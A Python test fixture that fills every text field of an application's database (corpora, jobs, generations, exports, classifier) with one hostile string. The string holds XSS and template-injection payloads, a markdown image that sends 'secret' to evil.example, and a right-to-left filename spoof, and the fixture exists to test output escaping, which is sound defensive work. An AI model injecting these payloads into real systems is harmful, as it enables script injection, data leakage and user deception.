"""Rows in which every text tries to be more than text."""

from sqlalchemy import text
from sqlalchemy.orm import Session

from app.domain.config import Budget
from app.repositories import exports, jobs
from tests import api_rows
from tests.browser import classifier_world, round_world, world
from tests.browser.world import World

HOSTILE = (
    "<script>alert(1)</script><img src=x onerror=alert(2)>\n"
    "</script><svg onload=alert(3)> {{7*7}} ${7*7} <a href='javascript:alert(4)'>x</a>\n"
    '"\' onmouseover=alert(5) x="\n![x](https://evil.example/?q=secret)\n'
    "admin\u202egpj.exe zero\u200bwidth tag\U000e0041\n"
)
"""Case 50 of `docs/reliability.md`, and hidden characters of case 10."""


def build(session: Session) -> World:
    """The same payloads wherever a person or a model can put text."""
    name = HOSTILE.replace("\n", " ")
    corpus, seeds = world.add_corpus(session, name[:200], [HOSTILE], [(name, 3, "bad_json", HOSTILE)])
    query = text(
        "UPDATE seeds SET external_id = CAST(:name AS text), licence = CAST(:name AS text), "
        "details = jsonb_build_object('file', CAST(:name AS text), 'line', 1)"
    )
    session.execute(query, {"name": name})
    job = world.add_job(session, corpus, model=name[:150], budget=Budget(calls=10))
    jobs.change(session, job, only_in=("queued",), state="running", note=name)
    round_id = round_world.add_settled_round(session, job, 1, accepted=1, pool=1, why=name)
    session.execute(
        text("UPDATE rounds SET plan = jsonb_set(plan, '{arms}', jsonb_build_object(CAST(:arm AS text), 3))"),
        {"arm": f"{name}/{name}/{name}"},
    )
    parent = api_rows.add_generation(
        session, job, round_id, seeds[0], body=HOSTILE, ordinal=0, verdict="dropped", gate="format", reason="preamble",
        detail=name,
    )  # fmt: skip
    generation = api_rows.add_generation(
        session, job, round_id, seeds[0], body=HOSTILE, ordinal=1, model=name, arm=f"{name}/{name}/{name}",
        parent_id=parent, params={name: name}, draw={name: [name]}, scores={name: name}, finish_reason=name,
    )  # fmt: skip
    export = exports.add(session, job, options={"format": name})
    files = [{**file, "name": name} for file in world.manifest()["files"]]
    exports.finish(session, export, manifest={**world.manifest(), "files": files, "licences": {name: 3}, "model": name})
    classifier = classifier_world.build(session, seeds, name=name[:300], file=name)
    return World(corpus, job, round_id, job, seeds[0], generation, export, classifier)
